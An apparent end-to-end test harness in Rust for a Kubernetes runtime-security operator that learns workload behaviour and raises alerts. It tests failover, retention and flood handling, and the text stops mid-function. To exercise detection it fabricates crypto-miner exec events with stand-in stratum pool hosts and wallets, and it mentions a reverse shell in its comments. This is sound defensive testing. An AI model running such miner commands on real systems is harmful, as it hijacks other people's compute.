//! `make e2e-k8s`, API side (issue 12): Kestrel's custom resources and the
//! operator as a controller, on a real Kubernetes API server.
//!
//! What is real: etcd, kube-apiserver, controller-manager and scheduler
//! (v1.20, `k8s-testenv`), the generated CRDs, `kubectl`, the operator
//! binary (`kestrel-operator --kubernetes`) with the embedding model, and the
//! gRPC transport with mutual TLS. What stands in for the node side (issue
//! 13): there is no kubelet, so this harness does the kubelet's two writes
//! for each pod of the test Deployment (the binding to a node and a status
//! with running containers and their `containerd://` ids), and a test agent
//! streams the events a node agent forwards for those containers: the
//! workload's loop (`date`, `wget` with request ids, `sleep`), then a miner.
//!
//! Checks, in order (each prints PASS or FAIL with what it saw):
//! 1. the CRDs install and are Established; invalid objects are rejected by
//!    the API server with the schema's message; a valid promoted profile is
//!    accepted;
//! 2. the Deployment's profile is created by the operator and goes
//!    Learning → Detecting; `kubectl wait --for=condition=Converged` returns;
//! 3. a miner in one replica makes one SecurityAlert naming that pod, and
//!    none names the other replicas; `kubectl describe` shows it;
//! 4. `kubectl get bp`, `salert` and `kestrel` show the printer columns;
//! 5. a core Event on the pod for the High alert, and on the profile for its
//!    phase changes;
//! 6. the miner repeated 1,000 times over 40 s stays one object whose count
//!    is written at most once per 30 s (a `kubectl get --watch` counts the
//!    updates);
//! 7. promotion: the learned profile exported, deleted and re-applied as
//!    `source: Promoted, mode: Detect` is in force at once (a reverse shell
//!    in another replica alerts), and the operator owns only its status
//!    (managedFields) and leaves its spec as applied;
//! 8. a promoted profile whose baseline does not load is reported as
//!    `BaselineInvalid` on its status, naming the field, and kept;
//! 9. the operator stops cleanly (SIGTERM) and its last write holds every
//!    repeat (`status.count` 1,001);
//! 10. two operators with leader election (a 6 s Lease): the first holds the
//!     Lease and is ready, the second is a standby (`/healthz` 200, `/readyz`
//!     503 "standby"); the first, a restart of the operator, takes up the
//!     stored alert, so the miner's repeat updates it (count 1,002, no second
//!     object); only the holder writes (`/metrics`);
//! 11. the leader killed with SIGKILL while a second Deployment learns: the
//!     standby leads within the Lease's duration and is ready;
//! 12. meanwhile the API server is stopped for 8 s and started again (etcd
//!     keeps running); the second Deployment's profile keeps what it learned
//!     and reaches Detecting, and the miner still updates its one alert;
//! 13. the leader stopped with SIGTERM exits 0 and releases the Lease;
//! 14. an operator with a create-rate limit of 3 new alerts per workload, a
//!     cap of 3 alerts per namespace and a 25 s TTL: eight distinct miners
//!     in one replica make three alerts and one flood alert counting the
//!     other five; the cap removes the namespace's oldest alerts; with
//!     nothing repeating, the TTL deletes every alert.

use anyhow::{bail, Context, Result};
use kestrel_e2e::k8s::{poll, Report, TestEnv};
use kestrel_events::{
    Ancestor, Argv, ByteStr, ContainerRef, Event, EventKind, Exec, Namespaces, Runtime, Task,
};
use kestrel_proto::client::{AgentClient, ClientConfig};
use kestrel_proto::{ClientTls, Hello, TlsMaterial, WorkloadEvent};
use serde_json::{json, Value};
use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const NODE: &str = "kestrel-e2e-node";
const NS: &str = "shop";
const CONFIG: &str = "learning:
  window: 4s
  minLearningTime: 16s
  cleanWindows: 1
  maxNewPerWindow: 0
";

fn main() -> Result<()> {
    let t0 = Instant::now();
    let operator = kestrel_e2e::sibling_binary("kestrel-operator")?;
    let work = std::env::temp_dir().join(format!("kestrel-e2e-k8s-{}", std::process::id()));
    std::fs::create_dir_all(&work)?;
    println!("== control plane (k8s-testenv) ==");
    let env = TestEnv::up(work.join("kt"))?;
    println!("   up after {:.1}s", t0.elapsed().as_secs_f64());
    let mut report = Report::default();

    let t = Instant::now();
    crds(&env, &mut report)?;
    println!("   crds: {:.1}s", t.elapsed().as_secs_f64());

    // `make bench-k8s`: the load run alone
    if let Some(n) = std::env::var("KESTREL_E2E_LOAD")
        .ok()
        .and_then(|v| v.parse::<usize>().ok())
    {
        let t = Instant::now();
        if let Err(e) = load(&env, &operator, &work, n, &mut report) {
            report.check("load run", false, format!("{e:#}"));
        }
        println!("   load: {:.1}s", t.elapsed().as_secs_f64());
        return finish(env, &report, t0, &work);
    }

    let t = Instant::now();
    let result = learn_and_detect(&env, &operator, &work, &mut report);
    println!("   learn and detect: {:.1}s", t.elapsed().as_secs_f64());
    if let Err(e) = &result {
        report.check("learn and detect", false, format!("{e:#}"));
        let log = std::fs::read_to_string(work.join("operator.log")).unwrap_or_default();
        let tail: Vec<&str> = log.lines().rev().take(40).collect();
        eprintln!("--- operator log (last 40 lines) ---");
        for l in tail.into_iter().rev() {
            eprintln!("{l}");
        }
    }

    let t = Instant::now();
    if result.is_ok() {
        if let Err(e) = failover(&env, &operator, &work, &mut report) {
            report.check("failover", false, format!("{e:#}"));
        }
        println!("   failover: {:.1}s", t.elapsed().as_secs_f64());
        let t = Instant::now();
        if let Err(e) = retention_and_flood(&env, &operator, &work, &mut report) {
            report.check("retention and flood", false, format!("{e:#}"));
        }
        println!("   retention and flood: {:.1}s", t.elapsed().as_secs_f64());
    }

    finish(env, &report, t0, &work)
}

/// Prints the report, tears the control plane down, fails on a failed check.
fn finish(env: TestEnv, report: &Report, t0: Instant, work: &Path) -> Result<()> {
    println!("\n== report ({:.0}s) ==", t0.elapsed().as_secs_f64());
    println!("{:<58} result", "check");
    for (name, ok, _) in &report.rows {
        println!("{name:<58} {}", if *ok { "pass" } else { "FAIL" });
    }
    let failed = report.failed();
    drop(env);
    if failed > 0 {
        bail!("{failed} of {} checks failed", report.rows.len());
    }
    let _ = std::fs::remove_dir_all(work);
    Ok(())
}

/// An operator process started for the failover checks; its stderr JSON
/// lines (`http`, `leader`, `listening`) come through `lines`, all of it
/// goes to its log.
struct Operator {
    child: Child,
    lines: std::sync::mpsc::Receiver<Value>,
    http: String,
    identity: String,
    log: std::path::PathBuf,
}

impl Operator {
    fn start(env: &TestEnv, operator: &Path, work: &Path, name: &str) -> Result<Self> {
        Self::start_with(env, operator, work, name, &work.join("config.yaml"), &[])
    }

    /// With another config file and `extra` flags.
    fn start_with(
        env: &TestEnv,
        operator: &Path,
        work: &Path,
        name: &str,
        config: &Path,
        extra: &[&str],
    ) -> Result<Self> {
        let (state, tls) = (work.join(format!("state-{name}")), work.join("tls"));
        std::fs::create_dir_all(&state)?;
        let log_path = work.join(format!("operator-{name}.log"));
        let log = std::fs::File::create(&log_path)?;
        let mut child = Command::new(operator)
            .args(["--kubernetes", "--listen", "127.0.0.1:0", "--agents", NODE])
            .args(["--http-listen", "127.0.0.1:0"])
            .args([
                "--lease-duration-secs",
                "6",
                "--lease-renew-before-secs",
                "2",
            ])
            .args(["--profile-flush-secs", "2", "--progress-every", "5"])
            .arg("--state-dir")
            .arg(&state)
            .arg("--tls-dir")
            .arg(&tls)
            .arg("--config")
            .arg(config)
            .args(extra)
            .env("KUBECONFIG", &env.kubeconfig)
            .env("RUST_LOG", "info")
            .stdout(log.try_clone()?)
            .stderr(Stdio::piped())
            .spawn()
            .context("kestrel-operator")?;
        let stderr = child.stderr.take().context("operator stderr")?;
        let (tx, lines) = std::sync::mpsc::channel();
        let mut log = log;
        std::thread::spawn(move || {
            use std::io::Write as _;
            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
                let _ = writeln!(log, "{line}");
                if let Ok(v) = serde_json::from_str::<Value>(&line) {
                    if v.is_object() && v.get("timestamp").is_none() {
                        let _ = tx.send(v);
                    }
                }
            }
        });
        let hostname = std::fs::read_to_string("/proc/sys/kernel/hostname")?;
        let identity = format!("{}-{}", hostname.trim(), child.id());
        let mut op = Operator {
            child,
            lines,
            http: String::new(),
            identity,
            log: log_path,
        };
        op.http = op
            .wait_for("http", Duration::from_secs(120))?
            .as_str()
            .context("http address")?
            .to_string();
        Ok(op)
    }

    /// The value of the next stderr line that has `key`.
    fn wait_for(&mut self, key: &str, limit: Duration) -> Result<Value> {
        let t = Instant::now();
        while let Some(left) = limit.checked_sub(t.elapsed()) {
            match self.lines.recv_timeout(left) {
                Ok(v) => {
                    if let Some(x) = v.get(key) {
                        return Ok(x.clone());
                    }
                }
                Err(_) => break,
            }
        }
        bail!(
            "no {key:?} line from the operator within {}s (see {})",
            limit.as_secs(),
            self.log.display()
        )
    }

    fn get(&self, path: &str) -> (u16, String) {
        http_get(&self.http, path).unwrap_or_else(|e| (0, e.to_string()))
    }

    /// A sample of its `/metrics`.
    fn metric(&self, name: &str) -> Option<f64> {
        let (_, text) = self.get("/metrics");
        text.lines()
            .find_map(|l| l.strip_prefix(name)?.strip_prefix(' ')?.parse().ok())
    }
}

/// `GET path` over HTTP/1.1 on `addr`: the status code and the body.
fn http_get(addr: &str, path: &str) -> Result<(u16, String)> {
    use std::io::{Read as _, Write as _};
    let mut s = std::net::TcpStream::connect(addr)?;
    s.set_read_timeout(Some(Duration::from_secs(5)))?;
    write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
    )?;
    let mut out = String::new();
    s.read_to_string(&mut out)?;
    let code = out
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .context("no status line")?;
    let body = out
        .split_once("\r\n\r\n")
        .map(|(_, b)| b)
        .unwrap_or_default();
    Ok((code, body.trim().to_string()))
}

/// An agent connected to the operator at `addr` (mutual TLS, as `NODE`).
fn connect_agent(runtime: &tokio::runtime::Runtime, tls: &Path, addr: &str) -> Result<AgentClient> {
    let material = TlsMaterial::load_agent(tls, NODE)?;
    let client_tls = ClientTls::from_material(&material, Some(NODE))?;
    let hello = Hello {
        node_name: NODE.into(),
        agent_id: "kestrel-e2e-k8s".into(),
        version: env!("CARGO_PKG_VERSION").into(),
        boot_id: "e2e".into(),
        instance: 0,
    };
    let (agent, mut inbound) = runtime.block_on(AgentClient::connect_with(
        ClientConfig::new(format!("https://{addr}")),
        client_tls,
        hello,
    ))?;
    runtime.spawn(async move { while inbound.recv().await.is_some() {} });
    Ok(agent)
}

fn lease_holder(env: &TestEnv) -> String {
    env.run_kubectl(
        &[
            "get",
            "lease",
            "kestrel-operator",
            "-n",
            "default",
            "-o",
            "jsonpath={.spec.holderIdentity}",
        ],
        None,
    )
    .map(|o| o.1.trim().to_string())
    .unwrap_or_default()
}

/// The miner alert of `web` (the one object whose exe is the miner).
fn miner_alerts(env: &TestEnv) -> Result<Vec<(String, u64)>> {
    let v: Value = serde_json::from_str(&env.kubectl(&["get", "salert", "-n", NS, "-o", "json"])?)?;
    Ok(v["items"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|a| {
            a["spec"]["evidence"]["exe"]
                .as_str()
                .is_some_and(|e| e.ends_with("kworker"))
        })
        .map(|a| {
            (
                a["metadata"]["name"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string(),
                a["status"]["count"].as_u64().unwrap_or(0),
            )
        })
        .collect())
}

/// The alerts of `api`, its flood alert (name, count), and all the
/// namespace's alerts.
type Census = (usize, Option<(String, u64)>, usize);

/// Acceptance 7: an operator with a create-rate limit of 3 new alerts per
/// workload, a cap of 3 alerts per namespace and a 25 s TTL; eight distinct
/// miners in one replica of `api`: three alerts, then one flood alert that
/// counts the other five; the cap removes the oldest alerts of the
/// namespace; once nothing repeats for the TTL, every alert is deleted.
fn retention_and_flood(env: &TestEnv, operator: &Path, work: &Path, r: &mut Report) -> Result<()> {
    println!("== retention and the flood alert ==");
    let api = run_pods(env, "api", 2, 10)?;
    let config = work.join("config-flood.yaml");
    std::fs::write(
        &config,
        format!("{CONFIG}alertFlood:\n  maxNewAlerts: 3\n  windowSecs: 600\n"),
    )?;
    let mut c = Operator::start_with(
        env,
        operator,
        work,
        "c",
        &config,
        &[
            "--alert-ttl-secs",
            "25",
            "--max-alerts-per-namespace",
            "3",
            "--retention-every-secs",
            "2",
            // repeats written every 2 s, so the flood's count shows at once
            "--alert-update-secs",
            "2",
        ],
    )?;
    let addr = c
        .wait_for("listening", Duration::from_secs(120))?
        .as_str()
        .context("address")?
        .to_string();
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()?;
    let agent = connect_agent(&runtime, &work.join("tls"), &addr)?;
    let mut clock = Clock(2_000_000_000_000);
    let batch: Vec<WorkloadEvent> = (0..8)
        .map(|n| {
            let exe = format!("/tmp/m{n}");
            let pool = format!("stratum+tcp://pool{n}.example.net:3333");
            let wallet = format!("wallet{n}");
            exec(
                &api[0],
                &mut clock,
                "sh",
                &exe,
                &[&exe, "-o", &pool, "-u", &wallet],
            )
        })
        .collect();
    agent
        .send(batch)
        .map_err(|_| anyhow::anyhow!("agent queue full"))?;
    let alerts_of_api = || -> Option<Census> {
        let v: Value = serde_json::from_str(
            &env.kubectl(&["get", "salert", "-n", NS, "-o", "json"])
                .ok()?,
        )
        .ok()?;
        let items = v["items"].as_array()?.clone();
        let api_items: Vec<&Value> = items
            .iter()
            .filter(|a| a["spec"]["evidence"]["workload"] == "Deployment/api")
            .collect();
        let flood = api_items
            .iter()
            .find(|a| {
                a["spec"]["title"]
                    .as_str()
                    .is_some_and(|t| t.starts_with("Alert flood in "))
            })
            .map(|a| {
                (
                    a["metadata"]["name"]
                        .as_str()
                        .unwrap_or_default()
                        .to_string(),
                    a["status"]["count"].as_u64().unwrap_or(0),
                )
            });
        Some((api_items.len(), flood, items.len()))
    };
    let seen = poll(Duration::from_secs(20), || {
        let (n, flood, total) = alerts_of_api()?;
        (flood.as_ref().is_some_and(|f| f.1 == 5) && total <= 3).then_some((n, flood, total))
    });
    let last = alerts_of_api();
    r.check(
        "past 3 new alerts per workload, 5 more fold into one flood alert that counts them",
        seen.is_some(),
        format!(
            "api alerts, flood (name, count), alerts in the namespace: {:?}",
            seen.clone().or(last)
        ),
    );
    // the deletions are counted once they are done
    let _ = poll(Duration::from_secs(10), || {
        (c.metric("kestrel_operator_alerts_capped_total")? >= 1.0).then_some(())
    });
    let capped = c
        .metric("kestrel_operator_alerts_capped_total")
        .unwrap_or(0.0);
    let expired = c
        .metric("kestrel_operator_alerts_expired_total")
        .unwrap_or(0.0);
    // the three alerts and the flood alert are four, past the cap of 3:
    // the oldest goes (and the web alerts of the checks before, unless
    // their TTL took them first)
    r.check(
        "the namespace's cap of 3 removes its oldest alerts",
        capped >= 1.0 && seen.is_some(),
        format!("capped {capped}, expired {expired}; the flood alert stays"),
    );
    let t = Instant::now();
    let gone = poll(Duration::from_secs(60), || {
        let (_, _, total) = alerts_of_api()?;
        (total == 0).then_some(())
    });
    let _ = poll(Duration::from_secs(10), || {
        (c.metric("kestrel_operator_alerts_expired_total")? - expired >= 3.0).then_some(())
    });
    let expired_after = c
        .metric("kestrel_operator_alerts_expired_total")
        .unwrap_or(0.0);
    r.check(
        "with nothing repeating, the 25 s TTL deletes every alert",
        gone.is_some() && expired_after - expired >= 3.0,
        format!(
            "{:?} alerts left after {:.0}s; expired {expired} → {expired_after}",
            alerts_of_api().map(|a| a.2),
            t.elapsed().as_secs_f64()
        ),
    );
    runtime.block_on(agent.close(Duration::from_secs(2)));
    // SAFETY: kill with a pid of a child we own.
    unsafe { libc::kill(c.child.id() as i32, libc::SIGTERM) };
    let status = wait_timeout(&mut c.child, Duration::from_secs(30));
    r.check(
        "the operator stops on SIGTERM",
        status.as_ref().is_some_and(|s| s.success()),
        format!("{status:?}"),
    );
    Ok(())
}

/// Acceptance 4 and 5: two operator processes; only the Lease holder runs
/// and writes, the other waits (alive, not ready); killed with SIGKILL in
/// the middle of a second workload's learning, the leader is replaced
/// within the Lease's duration, and the new leader goes on: the profile
/// keeps what was learned and converges, and the miner's repeats update
/// the alert raised before both restarts (no duplicate).
fn failover(env: &TestEnv, operator: &Path, work: &Path, r: &mut Report) -> Result<()> {
    println!("== two operators: leader election and failover ==");
    let web = run_pods(env, "web", 3, 0)?;
    let api = deploy(env, "api", 2, 10)?;
    let before = miner_alerts(env)?;
    let mut a = Operator::start(env, operator, work, "a")?;
    a.wait_for("leader", Duration::from_secs(60))?;
    let a_addr = a
        .wait_for("listening", Duration::from_secs(120))?
        .as_str()
        .context("address")?
        .to_string();
    let mut b = Operator::start(env, operator, work, "b")?;
    let b_leads = b.wait_for("leader", Duration::from_secs(30))?;
    let holder = lease_holder(env);
    let (a_ready, b_ready, b_alive) = (a.get("/readyz"), b.get("/readyz"), b.get("/healthz"));
    r.check(
        "two operators: the first holds the Lease and is ready, the second waits (alive, not ready)",
        holder == a.identity
            && b_leads == Value::Bool(false)
            && a_ready.0 == 200
            && b_ready.0 == 503
            && b_ready.1.contains("standby")
            && b_alive.0 == 200,
        format!(
            "holder {holder}; a /readyz {} ; b /readyz {} {:?}; b /healthz {}",
            a_ready.0, b_ready.0, b_ready.1, b_alive.0
        ),
    );

    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()?;
    let tls = work.join("tls");
    let agent = connect_agent(&runtime, &tls, &a_addr)?;
    let mut clock = Clock(1_000_000_000_000);
    // the api workload starts learning; the miner comes back in web
    let t = Instant::now();
    let mut i = 0u64;
    while t.elapsed() < Duration::from_secs(6) {
        let mut batch: Vec<WorkloadEvent> =
            api.iter().flat_map(|p| benign(p, i, &mut clock)).collect();
        if i == 0 {
            batch.push(miner(&web[0], &mut clock));
        }
        agent
            .send(batch)
            .map_err(|_| anyhow::anyhow!("agent queue full"))?;
        i += 1;
        std::thread::sleep(Duration::from_millis(250));
    }
    let learning = poll(Duration::from_secs(20), || {
        let out = env
            .run_kubectl(
                &["get", "bp", "deployment-api", "-n", NS, "-o", "json"],
                None,
            )
            .ok()?;
        let v: Value = serde_json::from_str(&out.1).ok()?;
        (v["status"]["phase"] == "Learning").then_some(v)
    });
    let learned_before = learning
        .as_ref()
        .and_then(|v| v["status"]["summary"]["processes"].as_u64())
        .unwrap_or(0);
    let restarted = poll(Duration::from_secs(20), || {
        let now = miner_alerts(env).ok()?;
        (now.len() == 1 && before.len() == 1 && now[0].0 == before[0].0 && now[0].1 > before[0].1)
            .then(|| now[0].clone())
    });
    r.check(
        "after a restart the miner's repeat updates the alert raised before it (same object, count goes on)",
        restarted.is_some(),
        format!("before {before:?}; now {restarted:?}"),
    );
    let (a_writes, b_writes) = (
        a.metric("kestrel_operator_api_writes_total"),
        b.metric("kestrel_operator_api_writes_total"),
    );
    r.check(
        "only the Lease holder writes (its /metrics count writes, the standby's none)",
        learning.is_some() && a_writes.is_some_and(|w| w > 0.0) && b_writes == Some(0.0),
        format!(
            "deployment-api Learning: {}; writes a {a_writes:?}, b {b_writes:?}",
            learning.is_some()
        ),
    );

    // SIGKILL the leader in the middle of learning
    let _ = a.child.kill();
    let _ = a.child.wait();
    let killed = Instant::now();
    let took = b.wait_for("leader", Duration::from_secs(40));
    let b_addr = b
        .wait_for("listening", Duration::from_secs(60))
        .ok()
        .and_then(|v| v.as_str().map(String::from));
    let takeover = killed.elapsed().as_secs_f64();
    let holder = lease_holder(env);
    let ready = poll(Duration::from_secs(20), || {
        (b.get("/readyz").0 == 200).then_some(())
    });
    r.check(
        "the standby takes over within the Lease's duration after the leader is killed",
        took.as_ref().is_ok_and(|v| *v == Value::Bool(true))
            && holder == b.identity
            && ready.is_some()
            && takeover < 6.0 + 10.0,
        format!(
            "leader after {takeover:.1}s (lease 6 s); holder {holder}; /readyz 200: {}",
            ready.is_some()
        ),
    );
    let Some(b_addr) = b_addr else {
        bail!("the new leader did not open its port");
    };
    runtime.block_on(agent.close(Duration::from_secs(2)));
    let agent = connect_agent(&runtime, &tls, &b_addr)?;
    // learning goes on with the new leader; 3 s in, the API server stops
    // for 8 s and comes back (etcd keeps everything)
    let mut phases: Vec<String> = vec![];
    let t = Instant::now();
    let mut detecting = None;
    let api_back = std::sync::atomic::AtomicBool::new(false);
    let (mut miner_after_restart, mut stuck) = (false, false);
    let restarted_api = std::thread::scope(|scope| -> Result<Result<f64>> {
        let restart = scope.spawn(|| {
            std::thread::sleep(Duration::from_secs(3));
            let r = env.restart_apiserver(Duration::from_secs(8));
            api_back.store(true, std::sync::atomic::Ordering::SeqCst);
            r
        });
        while t.elapsed() < Duration::from_secs(120) {
            let back = api_back.load(std::sync::atomic::Ordering::SeqCst);
            let mut batch: Vec<WorkloadEvent> =
                api.iter().flat_map(|p| benign(p, i, &mut clock)).collect();
            if t.elapsed() < Duration::from_millis(300) || (back && !miner_after_restart) {
                miner_after_restart |= back;
                batch.push(miner(&web[0], &mut clock));
            }
            if agent.send(batch).is_err() {
                stuck = true;
                break;
            }
            i += 1;
            std::thread::sleep(Duration::from_millis(250));
            if i.is_multiple_of(4) {
                let Ok((true, out, _)) = env.run_kubectl(
                    &["get", "bp", "deployment-api", "-n", NS, "-o", "json"],
                    None,
                ) else {
                    continue; // the API server is down
                };
                let v: Value = serde_json::from_str(&out)?;
                let phase = v["status"]["phase"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string();
                if phases.last() != Some(&phase) {
                    phases.push(phase.clone());
                }
                if phase == "Detecting" && back {
                    detecting = Some(v);
                    break;
                }
            }
        }
        restart
            .join()
            .map_err(|_| anyhow::anyhow!("the restart thread panicked"))
    })?;
    r.check(
        "the API server stopped for 8 s and restarted while the operator runs",
        restarted_api.is_ok() && !stuck,
        match &restarted_api {
            Ok(s) => format!(
                "ready again {s:.1}s after the stop; agent queue never full: {}",
                !stuck
            ),
            Err(e) => format!("{e:#}"),
        },
    );
    let learned_after = detecting
        .as_ref()
        .and_then(|v| v["status"]["summary"]["processes"].as_u64())
        .unwrap_or(0);
    r.check(
        "after the failover and the API server's restart learning goes on: the profile kept what was learned and converges",
        phases.first().map(String::as_str) == Some("Learning")
            && detecting.is_some()
            && learned_after >= learned_before
            && learned_before > 0,
        format!(
            "{} after {:.0}s; processes learned {learned_before} → {learned_after}",
            phases.join(" → "),
            t.elapsed().as_secs_f64()
        ),
    );
    let after = poll(Duration::from_secs(40), || {
        let now = miner_alerts(env).ok()?;
        let prev = restarted.as_ref()?;
        (now.len() == 1 && now[0].0 == prev.0 && now[0].1 > prev.1).then(|| now[0].clone())
    });
    r.check(
        "after the failover and the API server's restart the miner still updates its one alert (no duplicate)",
        after.is_some(),
        format!("{after:?}"),
    );
    runtime.block_on(agent.close(Duration::from_secs(2)));
    // SAFETY: kill with a pid of a child we own.
    unsafe { libc::kill(b.child.id() as i32, libc::SIGTERM) };
    let status = wait_timeout(&mut b.child, Duration::from_secs(30));
    let released = lease_holder(env);
    r.check(
        "the leader stopped with SIGTERM exits cleanly and releases the Lease",
        status.as_ref().is_some_and(|s| s.success()) && released.is_empty(),
        format!("{status:?}; holder now {released:?}"),
    );
    Ok(())
}

fn crd_dir() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/crds")
}

/// Acceptance 1 (the schema side).
fn crds(env: &TestEnv, r: &mut Report) -> Result<()> {
    println!("== custom resource definitions ==");
    let dir = crd_dir();
    env.kubectl(&["apply", "-f", &dir.to_string_lossy()])?;
    let est = env.run_kubectl(
        &[
            "wait",
            "--for=condition=Established",
            "--timeout=60s",
            "crd/behaviorprofiles.kestrel.dev",
            "crd/securityalerts.kestrel.dev",
        ],
        None,
    )?;
    r.check("CRDs established", est.0, est.1.trim().replace('\n', "; "));
    env.kubectl(&["create", "namespace", "e2e"])?;

    let profile = |spec: Value| {
        json!({
            "apiVersion": "kestrel.dev/v1alpha1", "kind": "BehaviorProfile",
            "metadata": {"name": "sample", "namespace": "e2e"}, "spec": spec
        })
        .to_string()
    };
    let invalid = [
        (
            "mode outside the enum",
            profile(json!({"source": "Promoted", "mode": "Sometimes"})),
            "spec.mode",
        ),
        (
            "source missing",
            profile(json!({"mode": "Detect"})),
            "spec.source",
        ),
        (
            "workload kind outside the enum",
            profile(json!({"source": "Learned", "workload": {"kind": "Rocket", "name": "x"}})),
            "spec.workload.kind",
        ),
        (
            "workload name longer than 253",
            profile(
                json!({"source": "Learned", "workload": {"kind": "Deployment", "name": "n".repeat(300)}}),
            ),
            "spec.workload.name",
        ),
        (
            "unknown alert severity",
            json!({
                "apiVersion": "kestrel.dev/v1alpha1", "kind": "SecurityAlert",
                "metadata": {"name": "bad", "namespace": "e2e"},
                "spec": {"id": "00", "title": "t", "severity": "Apocalyptic", "score": 1.0}
            })
            .to_string(),
            "spec.severity",
        ),
        (
            "alert score above 100",
            json!({
                "apiVersion": "kestrel.dev/v1alpha1", "kind": "SecurityAlert",
                "metadata": {"name": "bad", "namespace": "e2e"},
                "spec": {"id": "00", "title": "t", "severity": "High", "score": 170.0}
            })
            .to_string(),
            "spec.score",
        ),
    ];
    for (what, doc, field) in invalid {
        // --validate=false: the API server, not kubectl, must refuse it
        let (ok, _, err) =
            env.run_kubectl(&["create", "--validate=false", "-f", "-"], Some(&doc))?;
        let named = err.contains(field);
        r.check(
            &format!("rejected: {what}"),
            !ok && named,
            err.trim().chars().take(220).collect::<String>(),
        );
    }
    let valid = profile(json!({
        "source": "Promoted", "mode": "Detect",
        "workload": {"kind": "Deployment", "name": "sample"},
        "baseline": {}
    }));
    let (ok, out, err) =
        env.run_kubectl(&["create", "--validate=false", "-f", "-"], Some(&valid))?;
    r.check(
        "a valid promoted profile is accepted",
        ok,
        format!("{}{}", out.trim(), err.trim()),
    );
    let cols = env.kubectl(&["get", "bp", "-n", "e2e"])?;
    let header = cols.lines().next().unwrap_or_default().to_string();
    let want = [
        "NAME",
        "WORKLOAD",
        "MODE",
        "PHASE",
        "PROCESSES",
        "FILES",
        "PEERS",
        "EXEMPLARS",
        "CONVERGED",
        "AGE",
    ];
    r.check(
        "kubectl get bp shows the profile columns",
        want.iter()
            .all(|w| header.split_whitespace().any(|h| h == *w)),
        header,
    );
    env.kubectl(&["delete", "namespace", "e2e", "--wait=false"])?;
    Ok(())
}

/// A pod of the test Deployment, as the harness made it run.
struct PodRun {
    name: String,
    container_id: String,
    main_pid: u32,
    cgroup: u64,
}

fn learn_and_detect(env: &TestEnv, operator: &Path, work: &Path, r: &mut Report) -> Result<()> {
    println!("== a Deployment of 3 replicas, learned then attacked ==");
    env.kubectl(&["create", "namespace", NS])?;
    env.kubectl_stdin(
        &["apply", "-f", "-"],
        Some(&json!({"apiVersion": "v1", "kind": "Node", "metadata": {"name": NODE}}).to_string()),
    )?;
    let pods = deploy(env, "web", 3, 0)?;
    r.check(
        "3 replicas bound and running (the kubelet's writes)",
        pods.len() == 3,
        pods.iter()
            .map(|p| p.name.as_str())
            .collect::<Vec<_>>()
            .join(", "),
    );

    // the operator, against the API server
    let (state, tls) = (work.join("state"), work.join("tls"));
    std::fs::create_dir_all(&state)?;
    let cfg = work.join("config.yaml");
    std::fs::write(&cfg, CONFIG)?;
    let log = std::fs::File::create(work.join("operator.log"))?;
    let mut op = Command::new(operator)
        .args(["--kubernetes", "--listen", "127.0.0.1:0", "--agents", NODE])
        .args(["--profile-flush-secs", "2", "--progress-every", "5"])
        .arg("--state-dir")
        .arg(&state)
        .arg("--tls-dir")
        .arg(&tls)
        .arg("--config")
        .arg(&cfg)
        .env("KUBECONFIG", &env.kubeconfig)
        .env("RUST_LOG", "info")
        .stdout(log.try_clone()?)
        .stderr(Stdio::piped())
        .spawn()
        .context("kestrel-operator")?;
    let result = with_operator(env, &mut op, &log, &tls, &pods, r);
    // SIGTERM: the operator writes what it holds back, then exits
    // SAFETY: kill with a pid of a child we own.
    unsafe { libc::kill(op.id() as i32, libc::SIGTERM) };
    let status = wait_timeout(&mut op, Duration::from_secs(30));
    r.check(
        "the operator stops on SIGTERM",
        status.as_ref().is_some_and(|s| s.success()),
        format!("{status:?}"),
    );
    if let Ok(Some((name, sent))) = &result {
        let count = env.kubectl(&[
            "get",
            "salert",
            name,
            "-n",
            NS,
            "-o",
            "jsonpath={.status.count}",
        ])?;
        r.check(
            "after SIGTERM the alert's count holds every repeat (none lost to coalescing)",
            count.trim() == sent.to_string(),
            format!("status.count {} of {sent} occurrences", count.trim()),
        );
    }
    result.map(|_| ())
}

fn with_operator(
    env: &TestEnv,
    op: &mut Child,
    log: &std::fs::File,
    tls: &Path,
    pods: &[PodRun],
    r: &mut Report,
) -> Result<Option<(String, u64)>> {
    let addr = listening(op, log)?;
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()?;
    let agent = connect_agent(&runtime, tls, &addr)?;

    // learning: the loop of every replica until the profile detects
    let mut clock = Clock::default();
    let profile = "deployment-web";
    let t = Instant::now();
    let mut phases: Vec<String> = Vec::new();
    let mut i = 0u64;
    loop {
        let batch: Vec<WorkloadEvent> =
            pods.iter().flat_map(|p| benign(p, i, &mut clock)).collect();
        agent
            .send(batch)
            .map_err(|_| anyhow::anyhow!("agent queue full"))?;
        i += 1;
        std::thread::sleep(Duration::from_millis(250));
        if i.is_multiple_of(4) {
            let phase = env
                .run_kubectl(
                    &[
                        "get",
                        "bp",
                        profile,
                        "-n",
                        NS,
                        "-o",
                        "jsonpath={.status.phase}",
                    ],
                    None,
                )?
                .1;
            if !phase.is_empty() && phases.last() != Some(&phase) {
                println!(
                    "   {profile}: {phase} after {:.0}s",
                    t.elapsed().as_secs_f64()
                );
                phases.push(phase.clone());
            }
            if phase == "Detecting" || t.elapsed() > Duration::from_secs(150) {
                break;
            }
        }
    }
    r.check(
        "the operator created the profile and it went Learning → Detecting",
        phases.first().map(String::as_str) == Some("Learning")
            && phases.last().map(String::as_str) == Some("Detecting"),
        phases.join(" → "),
    );
    let (ok, out, err) = env.run_kubectl(
        &[
            "wait",
            "--for=condition=Converged",
            "--timeout=20s",
            &format!("bp/{profile}"),
            "-n",
            NS,
        ],
        None,
    )?;
    r.check(
        "kubectl wait --for=condition=Converged returns",
        ok,
        format!("{}{}", out.trim(), err.trim()),
    );
    let owner = env.kubectl(&[
        "get", "bp", profile, "-n", NS, "-o",
